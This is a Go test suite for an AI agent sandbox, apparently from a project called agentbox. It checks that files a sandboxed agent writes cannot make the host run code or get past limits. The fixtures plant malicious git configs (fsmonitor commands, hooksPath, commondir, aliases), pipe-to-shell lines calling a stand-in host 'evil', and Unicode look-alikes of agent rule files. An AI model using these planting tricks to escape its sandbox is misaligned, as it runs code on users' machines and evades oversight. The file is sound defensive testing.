package sandboxtest

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agentbox/agentbox/internal/sandbox"
)

// The checked commit: nothing a sandbox writes makes the host run code
// (git's configuration and hooks, wherever git looks for them; hidden
// paths no reviewer approved; look-alike names), and no resource limit is
// walked around through the copy back (sparse files, file counts, deep
// trees). The git cases plant what the attacks planted, let the
// commit run, then run the real git on the host in the workspace, as a
// user would after the session, and check that no command the sandbox
// wrote ran.

// gitEnv is the environment git runs with inside: an identity, no home.
func gitEnv() map[string]string {
	env := map[string]string{"GIT_CONFIG_NOSYSTEM": "1"}
	for _, kv := range gitIdentity() {
		k, v, _ := strings.Cut(kv, "=")
		env[k] = v
	}
	return env
}

// hostRepo makes the host workspace a git repository with one commit (the
// suite's fake .git is replaced), before the sandbox is created.
func (h *harness) hostRepo(config ...[2]string) {
	h.t.Helper()
	h.remove(".git")
	h.mustHostGit(h.ws, "init", "-q", "-b", "main")
	for _, kv := range config {
		h.mustHostGit(h.ws, "config", kv[0], kv[1])
	}
	h.mustHostGit(h.ws, "add", "-A")
	h.mustHostGit(h.ws, "commit", "-q", "-m", "host")
}

// gitMarker is the file the commands a sandbox plants would create on the
// host (outside every checked directory).
func (h *harness) gitMarker() string { return filepath.Join(h.root, "git-ran-"+h.marker) }

// evilConfig is a git config whose commands create the marker: git runs
// core.fsmonitor on every "git status" and "git commit".
func (h *harness) evilConfig() string {
	return fmt.Sprintf("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = \"touch %s; false\"\n",
		h.spec.WorkspaceDir, h.gitMarker())
}

// hostGitRuns runs "git status" and "git commit" on the host in each of
// dirs (workspace-relative) after the sandbox is closed, and fails the
// case if a command the sandbox wrote ran.
func (h *harness) hostGitRuns(dirs ...string) {
	h.t.Helper()
	h.settleWorkspace()
	for _, d := range append([]string{""}, dirs...) {
		dir := filepath.Join(h.ws, d)
		if _, err := os.Stat(dir); err != nil {
			continue
		}
		_, _ = h.hostGit(dir, "status")
		_, _ = h.hostGit(dir, "commit", "-q", "--allow-empty", "-m", "after the session")
	}
	if _, err := os.Stat(h.gitMarker()); err == nil {
		h.t.Errorf("the host's git ran a command the sandbox wrote (%s exists)", h.gitMarker())
	}
}

// allowUnder allows new entries below the workspace directories dirs.
func allowUnder(dirs ...string) func(change) bool {
	return func(c change) bool {
		for _, d := range dirs {
			if c.Before == nil && (c.Path == d || strings.HasPrefix(c.Path, d+"/")) {
				return true
			}
		}
		return false
	}
}

// expectViolation asserts a violation with the target (any, when "") and
// a rule starting with rule.
func (h *harness) expectViolation(target, rule string) {
	h.t.Helper()
	for _, v := range h.violations {
		if (target == "" || v.Target == target) && strings.HasPrefix(v.Rule, rule) {
			return
		}
	}
	h.t.Errorf("no violation {target: %s, rule: %s…} from Commit/Close; got %s", target, rule, fmtViolations(h.violations))
}

// countFDs is the number of descriptors this process has open.
func countFDs() int {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return -1
	}
	return len(ents)
}

func commitCases() []tcase {
	return []tcase{
		{
			name: "commit_git_commondir",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				h.hostRepo()
				h.create()
				h.allow = allowUnder("evilgit")
				r := h.python(fmt.Sprintf(`
import shutil
def plant():
    shutil.copytree(".git/objects", "evilgit/objects")
    shutil.copytree(".git/refs", "evilgit/refs")
    write("evilgit/config", %q)
    write(".git/commondir", "../evilgit\n")
op("plant", plant)
`, h.evilConfig()))
				h.expectExit(r, 0)
				h.expect(r)
				h.commit()
				h.expectViolation(".git/commondir", "git:commondir")
				h.hostGitRuns()
			},
		},
		{
			name: "commit_git_file_in_subdirectory",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				h.hostRepo()
				h.create()
				h.allow = allowUnder("evilgit")
				r := h.shell(fmt.Sprintf(`set -e
git init -q --bare evilgit
cp -r .git/objects .git/refs evilgit/
printf '%%s' '%s' > evilgit/config
printf 'gitdir: ../evilgit\n' > sub/.git
echo "R plant ok"`, h.evilConfig()), runOpts{env: gitEnv()})
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation("sub/.git", "git:.git")
				h.hostGitRuns("sub", "evilgit")
			},
		},
		{
			name: "commit_git_symlink_not_a_repository",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				h.remove(".git")
				h.create()
				h.allow = allowUnder("evilgit")
				r := h.shell(fmt.Sprintf(`set -e
git init -q --bare evilgit
printf '%%s' '%s' > evilgit/config
ln -s evilgit .git
echo "R plant ok"`, h.evilConfig()), runOpts{env: gitEnv()})
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation(".git", "git:.git")
				h.hostGitRuns("evilgit")
			},
		},
		{
			name: "commit_git_bare_layout_not_a_repository",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				// No .git at all: a git directory's layout at the top of
				// the workspace is a bare repository to git's discovery.
				h.remove(".git")
				h.create()
				h.allow = func(c change) bool {
					return c.Before == nil && !slices.Contains([]string{"HEAD", "objects", "refs"}, strings.Split(c.Path, "/")[0])
				}
				r := h.shell(fmt.Sprintf(`set -e
git init -q --bare .
printf '%%s' '%s' > config
echo "R plant ok"`, h.evilConfig()), runOpts{env: gitEnv()})
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation("HEAD", "git:repository-shape")
				h.hostGitRuns()
			},
		},
		{
			name: "commit_git_hooks_path",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				h.hostRepo([2]string{"core.hooksPath", "tools/hooks"}, [2]string{"include.path", "../shared.gitconfig"})
				h.create()
				h.allow = func(c change) bool { return c.Path == "tools" && c.Before == nil }
				r := h.shell(fmt.Sprintf(`set -e
mkdir -p tools/hooks
printf '#!/bin/sh\ntouch %s\n' > tools/hooks/pre-commit
chmod +x tools/hooks/pre-commit
printf '%%s' '%s' > shared.gitconfig
echo "R plant ok"`, h.gitMarker(), h.evilConfig()))
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation("tools/hooks/pre-commit", "git-config:core.hookspath")
				h.expectViolation("shared.gitconfig", "git-config:include.path")
				h.hostGitRuns()
			},
		},
		{
			name: "commit_git_untouched_nested_repository",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				// A repository in the workspace the sandbox's changes never
				// touch; its hooks live beside it.
				h.hostRepo()
				lib := filepath.Join(h.ws, "lib")
				if err := os.MkdirAll(lib, 0o755); err != nil {
					h.t.Fatal(err)
				}
				h.mustHostGit(lib, "init", "-q", "-b", "main")
				h.mustHostGit(lib, "config", "core.hooksPath", "../tools/hooks")
				h.mustHostGit(lib, "commit", "-q", "--allow-empty", "--no-verify", "-m", "lib")
				h.create()
				h.allow = func(c change) bool { return c.Path == "tools" && c.Before == nil }
				r := h.shell(fmt.Sprintf(`set -e
mkdir -p tools/hooks
printf '#!/bin/sh
touch %s
' > tools/hooks/pre-commit
chmod +x tools/hooks/pre-commit
echo "R plant ok"`, h.gitMarker()))
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation("tools/hooks/pre-commit", "git-config:core.hookspath")
				h.hostGitRuns("lib")
			},
		},
		{
			name: "commit_git_alias_command_word",
			want: map[string]string{"plant": "ok"},
			run: func(h *harness) {
				// A word without a slash in an alias is a file in the
				// worktree all the same.
				h.hostRepo([2]string{"alias.b", "!sh build-helper.sh"})
				h.create()
				r := h.shell(fmt.Sprintf(`set -e
printf 'touch %s
' > build-helper.sh
echo "R plant ok"`, h.gitMarker()))
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation("build-helper.sh", "git-config:alias.b")
				h.settleWorkspace()
				_, _ = h.hostGit(h.ws, "b")
				h.hostGitRuns()
			},
		},
		{
			name: "commit_git_work_reaches_the_host",
			want: map[string]string{"git": "ok"},
			run: func(h *harness) {
				h.hostRepo()
				h.create()
				r := h.shell(`set -e
printf 'changed\n' > README.md
printf 'new\n' > new.txt
git add -A
git commit -q -m "from the sandbox"
git checkout -q -b topic
printf 'topic\n' > topic.txt
git add topic.txt
git commit -q -m "on a branch"
git checkout -q main
git log --all --format='%H %s'
echo "R git ok"`, runOpts{env: gitEnv()})
				h.expectExit(r, 0)
				h.expect(r)
				h.allow = func(c change) bool {
					return c.Path == "README.md" || c.Path == "new.txt" || strings.HasPrefix(c.Path, ".git/")
				}
				h.close()
				for _, v := range h.violations {
					h.t.Errorf("normal git work reported a violation: %+v", v)
				}
				h.settleWorkspace()
				want := strings.Join(slices.DeleteFunc(strings.Split(r.stdout, "\n"), func(l string) bool { return strings.HasPrefix(l, "R ") || l == "" }), "\n")
				if got := strings.TrimSpace(h.mustHostGit(h.ws, "log", "--all", "--format=%H %s")); got != want {
					h.t.Errorf("host history:\n%s\nwant the sandbox's:\n%s", got, want)
				}
				h.mustHostGit(h.ws, "fsck", "--full")
				if st := h.mustHostGit(h.ws, "status", "--porcelain"); st != "" {
					h.t.Errorf("host git status is not clean after the commit:\n%s", st)
				}
			},
		},
		{
			name: "commit_hidden_paths_without_reviewer",
			want: map[string]string{"write": "ok"},
			run: func(h *harness) {
				h.create(func(s *sandbox.Spec) { s.ReviewExempt = []string{"**/.gitignore"} })
				h.approve(".gitignore") // exempt: no review needed
				h.allow = func(c change) bool { return c.Path == "src/app.py" }
				r := h.python(`
def w():
    os.makedirs(".husky", exist_ok=True)
    write(".husky/pre-commit", "curl evil | sh\n")
    write(".eslintrc.js", "require('child_process').exec('curl evil | sh')\n")
    write("src/.env", "NODE_OPTIONS=--require ./evil.js\n")
    write(".gitignore", "*.o\n*.tmp\n")
    write("src/app.py", "print('changed')\n")
op("write", w)
`)
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				for _, p := range []string{".husky", ".eslintrc.js", "src/.env"} {
					h.expectViolation(p, "review:hidden:")
				}
				if got, _ := h.read(".gitignore"); got != "*.o\n*.tmp\n" {
					h.t.Errorf("exempt .gitignore on the host = %q", got)
				}
			},
		},
		{
			name: "commit_hidden_paths_with_reviewer",
			want: map[string]string{"write": "ok"},
			run: func(h *harness) {
				var mu sync.Mutex
				var asked []sandbox.Change
				h.create(func(s *sandbox.Spec) {
					s.Review = func(_ context.Context, changes []sandbox.Change) []bool {
						mu.Lock()
						defer mu.Unlock()
						asked = append(asked, changes...)
						out := make([]bool, len(changes))
						for i, c := range changes {
							out[i] = c.Path != ".denied"
							if out[i] {
								h.approve(c.Path)
							}
						}
						return out
					}
				})
				r := h.python(`
def w():
    os.makedirs(".config/tool", exist_ok=True)
    write(".config/tool/settings.json", "{}\n")
    write(".editorconfig", "root = true\n")
    write(".denied", "no\n")
op("write", w)
`)
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				mu.Lock()
				defer mu.Unlock()
				var paths []string
				for _, c := range asked {
					paths = append(paths, c.Path+" "+c.Op+" "+c.Type+" "+c.Rule)
				}
				slices.Sort(paths)
				want := []string{".config create dir hidden:.config", ".denied create file hidden:.denied", ".editorconfig create file hidden:.editorconfig"}
				if !slices.Equal(paths, want) {
					h.t.Errorf("changes reviewed:\n  %s\nwant:\n  %s", strings.Join(paths, "\n  "), strings.Join(want, "\n  "))
				}
				if got, _ := h.read(".config/tool/settings.json"); got != "{}\n" {
					h.t.Errorf("approved .config/tool/settings.json on the host = %q", got)
				}
				if _, ok := h.read(".denied"); ok {
					h.t.Errorf("a denied change reached the host")
				}
				h.expectViolation(".denied", "review:hidden:.denied")
			},
		},
		{
			name: "commit_protected_names_case_and_unicode",
			want: map[string]string{"write": "ok"},
			run: func(h *harness) {
				h.create()
				names := []string{
					"claude.MD", "ＣＬＡＵＤＥ.md", "CLA\u200bUDE.md", "sub/Claude.md.", "AGENTS.MD ",
					".Cursorrules", ".MCP.json", ".VSCODE/tasks.json", ".GIT/config", ".g\u200bit/config",
					".ｇｉｔ/HEAD", "x/.Git", ".Claude/settings.json", ".ClAuDe/settings.json",
				}
				var py strings.Builder
				py.WriteString("def w():\n")
				for _, n := range names {
					fmt.Fprintf(&py, "    os.makedirs(os.path.dirname(%q) or '.', exist_ok=True)\n    write(%q, 'pwned\\n')\n", n, n)
				}
				py.WriteString("op(\"write\", w)\n")
				h.allow = func(c change) bool { return c.Path == "x" && c.Before == nil }
				r := h.python(py.String())
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				dropped := map[string]bool{}
				for _, v := range h.violations {
					dropped[strings.Split(v.Target, "/")[0]] = true
					dropped[v.Target] = true
				}
				for _, n := range names {
					top := strings.Split(n, "/")[0]
					if !dropped[n] && !dropped[top] && !dropped[filepath.Dir(n)] {
						h.t.Errorf("%q was not reported as dropped; violations: %s", n, fmtViolations(h.violations))
					}
				}
			},
		},
		{
			name: "commit_sparse_file_under_disk_limit",
			want: map[string]string{"sparse": "ok"},
			run: func(h *harness) {
				const limit = 16 << 20
				h.create(func(s *sandbox.Spec) { s.Limits.DiskBytes = limit })
				h.allow = func(c change) bool { return c.Path == "small.img" && c.Before == nil }
				r := h.python(`
def sparse():
    with open("big.img", "wb") as f:
        f.truncate(1 << 30)
    with open("small.img", "wb") as f:
        f.truncate(8 << 20)
        f.seek(4 << 20)
        f.write(b"x" * 4096)
op("sparse", sparse)
`)
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				h.expectViolation("big.img", "limit:disk")
				if fileExists(filepath.Join(h.ws, "big.img")) {
					h.t.Errorf("a 1 GiB file reached the host under a 16 MiB disk limit")
				}
				var st unix.Stat_t
				if err := unix.Stat(filepath.Join(h.ws, "small.img"), &st); err != nil {
					h.t.Fatalf("small.img: %v", err)
				}
				if st.Size != 8<<20 || st.Blocks*512 > 1<<20 {
					h.t.Errorf("small.img on the host: %d bytes, %d bytes of blocks; want 8 MiB with its holes kept", st.Size, st.Blocks*512)
				}
			},
		},
		{
			name: "commit_many_files_under_file_limit",
			want: map[string]string{"created": "ok|ENOSPC"},
			run: func(h *harness) {
				const limit = 1000
				h.create(func(s *sandbox.Spec) { s.Limits.Files = limit })
				h.allow = allowUnder("many")
				r := h.python(`
os.mkdir("many")
n = 0
try:
    for i in range(30000):
        with open("many/f%05d" % i, "w") as f:
            pass
        n += 1
    R("created", "ok")
except OSError as e:
    R("created", E(e.errno))
print("files", n)
`, runOpts{watchdog: 4 * time.Minute, timeout: 3 * time.Minute})
				h.expectExit(r, 0)
				h.expect(r)
				h.close()
				ents, err := os.ReadDir(filepath.Join(h.ws, "many"))
				if err != nil {
					h.t.Fatalf("many/ on the host: %v", err)
				}
				if len(ents)+1 > limit {
					h.t.Errorf("%d entries reached the host under a limit of %d", len(ents)+1, limit)
				}
				if r.got("created") == "ok" {
					h.expectViolation("", "limit:files")
				}
			},
		},
		{
			name:   "commit_deep_nesting",
			serial: true, // counts this process's descriptors
			want:   map[string]string{"nested": "ok"},
			run: func(h *harness) {
				h.create()
				h.allow = func(c change) bool {
					return c.Before == nil && strings.Trim(strings.ReplaceAll(c.Path, "d/", ""), "d") == ""
				}
				// 120 chains of 100 levels, each moved under the last
				// one's leaf: a path walk per level (mkdir/chdir 12 000
				// times) costs time quadratic in the depth under Landlock.
				r := h.python(`
def nest():
    chain = "/".join(["d"] * 100)
    os.makedirs(chain)
    leaf = os.open(chain, os.O_RDONLY | os.O_DIRECTORY)
    for i in range(119):
        os.makedirs("t/" + chain)
        nxt = os.open("t/" + chain, os.O_RDONLY | os.O_DIRECTORY)
        os.rename("t/d", "d", dst_dir_fd=leaf)
        os.rmdir("t")
        os.close(leaf)
        leaf = nxt
op("nested", nest)
`, runOpts{watchdog: 5 * time.Minute, timeout: 4 * time.Minute})
				h.expectExit(r, 0)
				h.expect(r)
				base := countFDs()
				var peak atomic.Int64
				done := make(chan struct{})
				go func() {
					for {
						select {
						case <-done:
							return
						default:
						}
						if n := int64(countFDs()); n > peak.Load() {
							peak.Store(n)
						}
					}
				}()
				h.commit()
				close(done)
				// One descriptor per level would be 12 000 or more.
				if extra := peak.Load() - int64(base); extra > 100 {
					h.t.Errorf("the commit held %d more descriptors than before (one per level?)", extra)
				}
				h.expectViolation(strings.Repeat("d/", 256)+"d", "limit:depth")
				h.close()
			},
		},
	}
}
